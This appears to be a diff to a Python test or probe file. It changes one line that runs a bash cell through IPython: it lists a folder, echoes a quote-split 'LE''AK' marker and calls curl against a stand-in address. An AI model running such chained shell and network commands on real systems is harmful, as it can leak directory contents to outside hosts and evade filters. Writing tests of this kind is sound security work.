@@ -1409,7 +1409,7 @@ try:
 except BaseException:
     pass
 try:
-    get_ipython().run_cell_magic("bash", "", f"ls {folder} && echo LE''AK; curl -s http://192.0.2.1/")
+    get_ipython().run_cell_magic("bash", "", f"ls {folder} && echo LE''AK; curl -s 192.0.2.1")
 except BaseException:
     pass
 try:
